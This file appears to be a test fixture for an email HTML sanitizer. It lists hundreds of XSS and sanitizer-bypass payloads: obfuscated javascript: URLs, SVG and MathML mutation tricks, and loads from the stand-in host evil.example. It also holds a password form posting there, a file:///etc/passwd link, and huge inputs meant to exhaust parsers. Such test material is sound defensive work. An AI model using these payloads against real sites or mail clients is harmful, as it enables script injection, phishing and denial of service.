/**
 * HTML that tries to run, load, style, send or cover something, by the ideas of public test sets for sanitizers, written by
 * ourselves. `HIT` is what code would do, `EVIL` what a page would load.
 */
export const HIT = 'window.wasHit=1'
export const EVIL = 'https://evil.example'

const eventNames = [
  ...['onload', 'onerror', 'onclick', 'onmouseover', 'onfocus', 'onblur', 'ontoggle', 'onanimationstart', 'onbegin'],
  ...['onpointerenter', 'onscroll', 'onwheel', 'onbeforematch', 'oncontentvisibilityautostatechange', 'ONERROR'],
]
const handlers = eventNames.flatMap((name) => [
  `<div ${name}="${HIT}" tabindex=0 autofocus>a</div>`,
  `<img src=x ${name}=${HIT}>`,
  `<details open ${name}='${HIT}'><summary>a</summary>b</details>`,
])

const scripts = [
  `<script>${HIT}</script>`,
  `<SCRIPT SRC=${EVIL}/a.js></SCRIPT>`,
  `<script/x>${HIT}</script >`,
  `<script\n>${HIT}</script\n>`,
  `<script type=module>${HIT}</script>`,
  `<scr<script>ipt>${HIT}</scr</script>ipt>`,
  `<script>${HIT}`,
  `<script><!--${HIT}//--></script>`,
  `<<script>${HIT}//<</script>`,
  `<script src="data:text/javascript,${HIT}"></script>`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
  `<template><script>${HIT}</script></template>`,
  `<xmp><script>${HIT}</script></xmp>`,
  `<textarea><script>${HIT}</script></textarea>`,
  `<title><img src=x onerror=${HIT}></title>`,
  `<plaintext><script>${HIT}</script>`,
  `<noembed><img src=x onerror=${HIT}></noembed>`,
  `<noframes><img src=x onerror=${HIT}></noframes>`,
  `<iframe><img src=x onerror=${HIT}></iframe>`,
  `<listing><script>${HIT}</script></listing>`,
  `<b><![CDATA[<script>${HIT}</script>]]></b>`,
  `<?xml-stylesheet href="javascript:${HIT}"?><p>a`,
  `<!ENTITY x "<script>${HIT}</script>"><p>&x;</p>`,
  `&lt;script&gt;${HIT}&lt;/script&gt;`,
  `<p>\u0000<scr\u0000ipt>${HIT}</script>`,
  `<portal src=${EVIL}></portal>`,
]

const addresses = [
  `javascript:${HIT}`,
  `JaVaScRiPt:${HIT}`,
  ` javascript:${HIT}`,
  `java\nscript:${HIT}`,
  `java\tscript:${HIT}`,
  `\u0001javascript:${HIT}`,
  `javascript&colon;${HIT}`,
  `&#106;avascript:${HIT}`,
  `&#x6A&#x61vascript:${HIT}`,
  `javascript&#0000058;${HIT}`,
  `java&#x0A;script:${HIT}`,
  `javascript://%0a${HIT}`,
  `view-source:javascript:${HIT}`,
  `vbscript:${HIT}`,
  `livescript:${HIT}`,
  `data:text/html,<script>${HIT}</script>`,
  `data:text/html;base64,PHNjcmlwdD4=`,
  `blob:${EVIL}/1`,
  `file:///etc/passwd`,
  `ms-settings:network`,
  `feed:javascript:${HIT}`,
  `//evil.example/a`,
  `/logout`,
  `?no=1`,
  `#newest`,
  `\\\\evil.example\\share`,
  `https://portal.example@evil.example/`,
  `https://user:word@evil.example/`,
  `mailto:a@b.example?bcc=all@evil.example&body=${HIT}`,
  `tel:javascript:${HIT}`,
  `\u202ejavascript:${HIT}`,
]
const places: ((address: string) => string)[] = [
  (address) => `<a href="${address}">a</a>`,
  (address) => `<img src="${address}" srcset="${address} 2x" lowsrc="${address}" dynsrc="${address}">`,
]

const loading = [
  `<img src=${EVIL}/a.png>`,
  `<img srcset="${EVIL}/a.png 1x">`,
  `<picture><source srcset=${EVIL}/a.png><img></picture>`,
  `<link rel=stylesheet href=${EVIL}/a.css>`,
  `<link rel=preload as=image href=${EVIL}/a.png>`,
  `<link rel=dns-prefetch href=//evil.example>`,
  `<base href=${EVIL}/><a href=a>b</a>`,
  `<base target=_parent>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<meta http-equiv=Set-Cookie content="a=b">`,
  `<meta name=referrer content=unsafe-url>`,
  `<iframe src=${EVIL}></iframe>`,
  `<iframe srcdoc="<script>${HIT}</script>"></iframe>`,
  `<frameset><frame src=${EVIL}></frameset>`,
  `<object data=${EVIL}/a.swf><param name=a value=b></object>`,
  `<embed src=${EVIL}/a.swf>`,
  `<applet code=${EVIL}></applet>`,
  `<audio src=${EVIL}/a autoplay onerror=${HIT}></audio>`,
  `<video poster=${EVIL}/a.png><source src=${EVIL}/a onerror=${HIT}><track src=${EVIL}></video>`,
  `<bgsound src=${EVIL}/a>`,
  `<body background=${EVIL}/a.png>`,
  `<table background=${EVIL}/a.png><tr><td background=${EVIL}/b.png>a<td>b<tr><td>c<td>d</table>`,
  `<input type=image src=${EVIL}/a.png>`,
  `<p style="background:url(${EVIL}/a.png)">a</p>`,
  `<layer src=${EVIL}></layer><ilayer src=${EVIL}></ilayer>`,
  `<xml src=${EVIL}></xml><span datasrc=#a datafld=b>c</span>`,
  `<fencedframe src=${EVIL}></fencedframe>`,
  `<a href=${EVIL}/a ping=${EVIL}/ping download target=_top>evil.example</a>`,
]

const styling = [
  '<style>*{display:none}</style>',
  `<style>@import '${EVIL}/a.css'</style>`,
  '<p style="position:fixed;inset:0;background:red">a</p>',
  `<p style="width:expression(${HIT})">a</p>`,
  `<p style="-moz-binding:url(${EVIL}/a.xml#a)">a</p>`,
  `<p style="behavior:url(${EVIL}/a.htc)">a</p>`,
  '<p class="modal d-none toast-message">a</p>',
  '<font size=7 color=red>a</font>',
  '<marquee>a</marquee><blink>b</blink>',
  '<p hidden inert dir=rtl lang=xx translate=no>a</p>',
  '<div popover id=a>a</div><button popovertarget=a>b</button>',
  '<dialog open>a</dialog>',
]

const foreign = [
  `<svg onload=${HIT}></svg>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><a xlink:href="javascript:${HIT}"><text>a</text></a></svg>`,
  `<svg><animate attributeName=href values="javascript:${HIT}"/></svg>`,
  `<svg><set attributeName=onload to=${HIT}></svg>`,
  `<svg><foreignObject><img src=x onerror=${HIT}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=a onload=${HIT}/>#a"/></svg>`,
  `<svg><style><img src=x onerror=${HIT}></style></svg>`,
  `<svg><desc><script>${HIT}</script></desc></svg>`,
  `<svg><image href=${EVIL}/a.png /></svg>`,
  `<svg></p><style><a id="</style><img src=x onerror=${HIT}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${HIT}&gt;">`,
  `<math><annotation-xml encoding="text/html"><script>${HIT}</script></annotation-xml></math>`,
  `<math href="javascript:${HIT}">a</math>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${HIT}">a</maction></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${HIT}>`,
  `<svg><svg><title><style><img src=x onerror=${HIT}>`,
]

const forms = [
  `<form action=${EVIL}><input name=password type=password><button>a</button></form>`,
  `<form action=/logout method=post><input type=submit autofocus onfocus=${HIT}></form>`,
  `<button formaction="javascript:${HIT}" form=reply>a</button>`,
  `<input onfocus=${HIT} autofocus>`,
  `<select onchange=${HIT}><option>a</select>`,
  `<isindex action="javascript:${HIT}" type=image>`,
  '<textarea name=description form=reply>a</textarea>',
  '<keygen autofocus><label for=description>a</label><fieldset form=reply></fieldset>',
  '</form></section></main><form action=/cases/ticket/close method=post><input type=submit>',
]

const identities = [
  '<p id="newest">a</p><p id=reply>b</p><p id=content>c</p>',
  '<a name="newest">a</a><a id=details name=details href="#details">b</a>',
  '<img name=body><img name=cookie><form name=getElementById></form>',
  '<p id=__remixContext>a</p><p id=__proto__ class=constructor>b</p>',
  '<p slot=a is=b-c part=d itemprop=e>a</p><x-element>b</x-element>',
  '<p aria-label="Send" role=button aria-live=assertive tabindex=0 accesskey=s contenteditable>a</p>',
  '<p data-discover=true data-remix-run=1>a</p>',
  '<div id="divRplyFwdMsg" onclick=x style=a>From</div><div class="gmail_quote modal">b</div>',
]

const broken = [
  `<!--><script>${HIT}</script>-->`,
  `<!-- a <p>b --!><img src=x onerror=${HIT}>`,
  `<!--[if gte IE 4]><script>${HIT}</script><![endif]-->`,
  `<![if !mso]><img src=x onerror=${HIT}><![endif]>`,
  `<p title="<!--"><img src=x onerror=${HIT}>--></p>`,
  `<img """><script>${HIT}</script>">`,
  `<img src="x\` \`<script>${HIT}</script>"\` \`>`,
  `<a title='"><img src=x onerror=${HIT}>'>a</a>`,
  `<p a="b'><img src=x onerror=${HIT}>`,
  `<table><script>${HIT}</script><tr><td><a href="javascript:${HIT}">a</a><td>b<tr><td>c<td>d</table>`,
  `<table><tr><td>a<td>b<tr><img src=x onerror=${HIT}><form><td colspan=99999 rowspan=-1>c<td>d</table>`,
  '<a href="https://a.example">b<a href="https://evil.example">c<p><table><a>d</table></a>',
  '<b><p><i></b></p></i></div></li></td></html></body><p>a',
  '<ul><table><li><p><ul><p></table></ul>a',
  `</p></br></script></style></td>${'</div>'.repeat(50)}<p>a`,
  `<img/src=x/onerror=${HIT}>`,
  `<p/onclick=${HIT}>a`,
  `<\u00a0script>${HIT}</script>`,
  `<%<script>${HIT}</script>%>`,
  `<p =">${HIT}</p>`,
  `+ADw-script+AD4-${HIT}+ADw-/script+AD4-`,
]

export const hostileMails: readonly string[] = [
  ...handlers,
  ...scripts,
  ...addresses.flatMap((address) => places.map((place) => place(address))),
  ...[...loading, ...styling, ...foreign, ...forms, ...identities, ...broken],
]

const many = (text: string, length: number) => text.repeat(Math.ceil(length / text.length))

/** Mails that cost time or depth. */
export const largeMails: readonly (readonly [what: string, html: string])[] = [
  ['10,000 elements in each other', many('<div>', 50_000) + 'deep'],
  ['10,000 quotes in each other', many('<blockquote>a', 130_000)],
  ['10,000 tables in each other', many('<table><tr><td>a<td>b<tr><td>c<td>', 340_000)],
  ['10,000 lists in each other', many('<ul><li>a', 90_000)],
  ['marks of many kinds in each other', many('<b><i><a href="https://a.example"><sub><s>a', 200_000)],
  ['1 MB of <', many('<', 1_000_000)],
  ['1 MB of <p', many('<p', 1_000_000)],
  ['100,000 comments without an end', many('<!--', 400_000)],
  ['a tag of 20,000 attributes', `<p ${Array.from({ length: 20_000 }, (_, at) => `a${at}=b`).join(' ')}>a</p>`],
  ['50,000 ends of nothing', many('</x>', 200_000)],
  ['a link of 1 MB', `<a href="https://evil.example/${many('a', 1_000_000)}">a</a>`],
  ['1 MB of addresses', many('a@b.example ', 1_000_000)],
  ['1 MB of lines', many('\na', 1_000_000)],
]
